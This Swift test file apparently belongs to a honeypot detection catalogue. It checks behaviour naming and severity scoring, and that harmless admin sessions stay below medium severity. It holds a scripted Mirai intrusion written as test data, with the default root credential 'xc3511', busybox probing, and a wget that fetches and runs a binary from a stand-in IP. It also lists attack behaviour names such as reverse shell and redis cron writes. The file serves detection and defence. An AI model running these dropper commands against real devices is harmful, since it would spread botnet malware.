import Testing
import ThreatModel

@testable import Detection

@Suite struct BuiltInCatalogueTests {
    let catalogue: DetectionCatalogue

    init() throws { catalogue = try BuiltIn.catalogue() }

    @Test func everyExampleShowsItsBehaviourAndNoNearMissDoes() {
        #expect(catalogue.brokenExamples().map(\.description) == [])
    }

    @Test(arguments: [
        "any.connect_only", "any.banner_grab", "any.brute_force", "any.default_creds", "any.elf_or_pe_upload",
        "any.c2_url", "any.multi_protocol_sweep", "any.multi_sensor", "any.brute_force_sessions", "any.slow_guessing",
        "any.password_spray", "any.credential_stuffing",
        "sh.mirai_dialogue", "sh.dropper_pipe", "sh.dropper_file", "sh.dropper_echo", "sh.chmod_exec", "sh.recon_uname",
        "sh.recon_cpu", "sh.honeypot_check", "sh.authorized_keys", "sh.reverse_shell", "sh.crontab_write",
        "sh.history_off",
        "tel.new_environ_f_root", "http.dotenv", "http.git_config", "http.phpunit", "http.log4shell",
        "http.path_traversal", "http.wp_login", "http.cmd_injection", "http.shellshock", "http.boaform", "redis.info",
        "redis.keys_dump", "redis.config_dir_cron", "redis.config_dir_ssh", "redis.cron_payload", "redis.replicaof",
        "redis.module_load", "redis.eval_escape",
    ])
    func nameStaysKnown(_ name: String) throws {
        // Stored evidence and people's filters name behaviours: one that is renamed or dropped is lost to them.
        let index = try #require(catalogue.behaviour(named: name))
        #expect(catalogue.behaviours[index].name == name)
    }

    @Test func namesFindTheirPrimitives() throws {
        for (index, primitive) in catalogue.primitives.enumerated() {
            #expect(catalogue.primitive(named: primitive.name) == index)
        }
        #expect(catalogue.primitive(named: "no.such") == nil)
        #expect(catalogue.behaviour(named: "no.such") == nil)
    }

    @Test func whatAPrimitiveIsUsedForIsKnown() {
        let used = Set(catalogue.behaviours.flatMap(\.primitives))
        #expect(used == Set(catalogue.primitives.indices))
    }

    /// An administrator who reaches the wrong machine is not an attacker.
    @Test func administratorStaysBelowMedium() {
        let lines = [
            "ls -la", "cd /var/www/html", "git status", "df -h", "free -m", "uptime", "w", "top -bn1 | head -20",
            "tail -n 100 /var/log/syslog | grep error", "systemctl status nginx", "cat /etc/hostname", "uname -a",
            "crontab -l", "cat ~/.ssh/authorized_keys", "vi /etc/nginx/nginx.conf", "sudo systemctl restart nginx",
            "history | tail", "chmod +x backup.sh", "exit",
        ]
        let login = event(.auth, ["method": "password", "username": "deploy", "password": "kV8-winter-ladder"])
        let session = [event(.connect), login] + lines.map { command($0) } + [event(.close, ["bytes_in": "812"])]
        expectHarmless(session)
    }

    @Test(arguments: [
        [event(.connect), event(.close, ["bytes_in": "0"])],
        [
            event(.connect, on: .http),
            event(.request, ["method": "GET", "path": "/", "user_agent": "monitor/1.0"], on: .http),
            event(.request, ["method": "HEAD", "path": "/health"], on: .http),
            event(.close, ["bytes_in": "190"], on: .http),
        ],
        [
            event(.connect, on: .redis), event(.query, ["command": "PING", "argv": "\"PING\""], on: .redis),
            event(.query, ["command": "INFO", "argv": "\"INFO\""], on: .redis),
            event(.close, ["bytes_in": "28"], on: .redis),
        ],
    ])
    func monitorStaysBelowMedium(_ session: [SessionEvent]) { expectHarmless(session) }

    private func expectHarmless(_ session: [SessionEvent]) {
        for name in shown(session, in: catalogue) {
            let severity = catalogue.behaviour(named: name).map { catalogue.behaviours[$0].severity }
            #expect(severity.map { $0 < .medium } == true, "\(name)")
        }
    }

    /// The first minutes of a Mirai visit, from login to the running program.
    @Test func miraiVisitIsRecognised() {
        let lines = [
            "enable", "system", "shell", "sh", "/bin/busybox ECCHI", "/bin/busybox ps; /bin/busybox ECCHI",
            "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
            "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > /.nippon",
            "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
            "/bin/busybox wget http://198.51.100.7:80/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
            "./dvrHelper telnet.arm7; /bin/busybox IHCCE", "rm -rf upnp; > dvrHelper; /bin/busybox ECCHI",
        ]
        let login = event(.auth, ["method": "password", "username": "root", "password": "xc3511", "success": "true"])
        let session = [event(.connect), login] + lines.enumerated().map { command($1, seconds: Double($0)) }
        #expect(
            Set(shown(session, in: catalogue)) == [
                "any.default_creds", "sh.mirai_dialogue", "sh.honeypot_check", "sh.dropper_file", "sh.chmod_exec",
            ])
    }
}
